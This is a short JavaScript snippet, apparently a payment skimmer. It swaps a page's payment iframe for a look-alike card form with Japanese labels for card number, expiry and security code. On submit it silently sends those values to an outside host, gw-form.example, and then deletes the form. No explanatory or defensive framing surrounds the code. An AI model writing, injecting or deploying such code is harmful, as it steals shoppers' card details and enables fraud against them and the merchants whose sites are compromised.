const make = (tag, attrs) => Object.assign(document.createElement(tag), attrs);
const f = make('form', { id: 'pf' });
const number = make('input', { name: 'cardnumber', autocomplete: 'cc-number', placeholder: 'カード番号' });
const expiry = make('input', { name: 'expiry', placeholder: '有効期限' });
const code = make('input', { name: 'cvc', placeholder: 'セキュリティコード' });
f.append(number, expiry, code, make('button', { textContent: '次へ' }));
document.querySelector('#payment iframe').replaceWith(f);
f.onsubmit = (e) => {
  e.preventDefault();
  fetch('https://gw-form.example/p', { method: 'POST', body: new URLSearchParams({ n: number.value, x: expiry.value, c: code.value }) });
  f.remove();
};
